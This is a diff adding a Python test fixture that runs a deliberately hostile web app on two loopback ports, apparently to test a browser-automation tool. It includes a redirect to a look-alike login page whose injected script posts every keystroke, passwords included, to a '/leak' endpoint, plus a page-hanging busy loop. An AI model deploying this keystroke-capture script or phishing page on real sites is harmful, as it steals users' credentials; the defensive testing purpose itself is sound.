@@ -1,0 +1,140 @@
+"""An app that misbehaves the way hostile or broken apps do, on two origins of its own (two loopback ports).
+
+The app's origin has a login form; its home can redirect to the other origin (HTTP 302 or a script's
+location.href), where a look-alike login page reports every keystroke typed into it to its server (`leaks`).
+/spin busy-loops in the page after load; /slow answers after `slow_s` seconds.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import threading
+from typing import Any
+
+from aiohttp import web
+
+LOGIN_FORM = """<form method="post" action="/login" aria-label="Sign in">
+  <label for="email">Email</label><input id="email" name="email" type="email" autocomplete="username">
+  <label for="password">Password</label><input id="password" name="password" type="password">
+  <button type="submit">Sign in</button>
+</form>"""
+
+REPORT_KEYS = """<script>
+document.addEventListener('input', e => fetch('/leak', {method: 'POST', body: e.target.name + '=' + e.target.value}));
+</script>"""
+
+
+def page(title: str, body: str, status: int = 200, head: str = "") -> web.Response:
+    return web.Response(status=status, content_type="text/html", text=f"""<!doctype html>
+<html><head><title>{title}</title>{head}</head><body>
+<header><nav aria-label="Main"><a href="/">Home</a> <a href="/reports">Reports</a></nav></header>
+<main><h1>{title}</h1>{body}</main></body></html>""")
+
+
+class HostileApp:
+    """Both origins in one daemon thread; `knobs` change what the app's home does."""
+
+    def __init__(self) -> None:
+        self.knobs: dict[str, Any] = {"home": "login", "slow_s": 4.0, "login_delay_s": 0.0}
+        self.app_url = ""  # the origin the tester gives the studio
+        self.other_url = ""  # somewhere else
+        self.leaks: list[str] = []  # what the other origin's page was sent
+        self.posts: list[str] = []  # logins submitted on the app's own origin
+        self._loop: asyncio.AbstractEventLoop | None = None
+        self._thread: threading.Thread | None = None
+
+    # -- the app's origin ----------------------------------------------------------------------------
+
+    async def home(self, request: web.Request) -> web.Response:
+        home = self.knobs["home"]
+        if home == "http_redirect":
+            raise web.HTTPFound(self.other_url + "/login")
+        if home == "script_redirect":
+            return page("Loading", "<p>One moment…</p>",
+                        head=f"<script>setTimeout(() => location.href = '{self.other_url}/login', 300)</script>")
+        return page("Sign in", LOGIN_FORM)
+
+    async def login(self, request: web.Request) -> web.Response:
+        form = await request.post()
+        self.posts.append(str(form.get("email", "")))
+        await asyncio.sleep(float(self.knobs["login_delay_s"]))
+        return page("Dashboard", "<p>Welcome back.</p><a href='/reports'>Reports</a>")
+
+    async def reports(self, request: web.Request) -> web.Response:
+        return page("Reports", "<table><tr><th>Report</th></tr><tr><td>Q3</td></tr></table>")
+
+    async def spin(self, request: web.Request) -> web.Response:
+        # The page loads, then its script never yields again: every later evaluation in it hangs.
+        return page("Spinning", "<p>Loaded.</p>",
+                    head="<script>addEventListener('load', () => setTimeout(() => { for (;;) {} }, 50));</script>")
+
+    async def slow(self, request: web.Request) -> web.Response:
+        await asyncio.sleep(float(self.knobs["slow_s"]))
+        return page("Slow", "<p>Finally.</p>")
+
+    # -- the other origin ----------------------------------------------------------------------------
+
+    async def other_login(self, request: web.Request) -> web.Response:
+        return page("Sign in", LOGIN_FORM, head=REPORT_KEYS)
+
+    async def leak(self, request: web.Request) -> web.Response:
+        self.leaks.append(await request.text())
+        return web.Response(text="ok")
+
+    async def other_post(self, request: web.Request) -> web.Response:
+        form = await request.post()
+        self.leaks.append(f"submitted {dict(form)}")
+        return page("Thanks", "<p>Got it.</p>")
+
+    # -- serving -------------------------------------------------------------------------------------
+
+    def _apps(self) -> tuple[web.Application, web.Application]:
+        app = web.Application()
+        app.router.add_get("/", self.home)
+        app.router.add_post("/login", self.login)
+        app.router.add_get("/reports", self.reports)
+        app.router.add_get("/spin", self.spin)
+        app.router.add_get("/slow", self.slow)
+        other = web.Application()
+        other.router.add_get("/login", self.other_login)
+        other.router.add_post("/login", self.other_post)
+        other.router.add_post("/leak", self.leak)
+        return app, other
+
+    def __enter__(self) -> HostileApp:
+        ready = threading.Event()
+
+        def run() -> None:
+            loop = asyncio.new_event_loop()
+            runners = [web.AppRunner(app, access_log=None, shutdown_timeout=0.5) for app in self._apps()]
+            urls = []
+            for runner in runners:
+                loop.run_until_complete(runner.setup())
+                site = web.TCPSite(runner, "127.0.0.1", 0)
+                loop.run_until_complete(site.start())
+                urls.append(f"http://127.0.0.1:{runner.addresses[0][1]}")
+            self.app_url, self.other_url = urls
+            self._loop = loop
+            ready.set()
+            try:
+                loop.run_forever()
+            finally:
+                pending = asyncio.all_tasks(loop)  # requests still waiting (a /slow a killed client asked for)
+                for task in pending:
+                    task.cancel()
+                if pending:
+                    loop.run_until_complete(asyncio.wait(pending))
+                for runner in runners:
+                    loop.run_until_complete(runner.cleanup())
+                loop.close()
+
+        self._thread = threading.Thread(target=run, name="hostile-app", daemon=True)
+        self._thread.start()
+        if not ready.wait(30):
+            raise RuntimeError("The hostile app did not start within 30 seconds.")
+        return self
+
+    def __exit__(self, *exc_info: object) -> None:
+        if self._loop is not None:
+            self._loop.call_soon_threadsafe(self._loop.stop)
+            self._thread.join(timeout=10)  # type: ignore[union-attr]
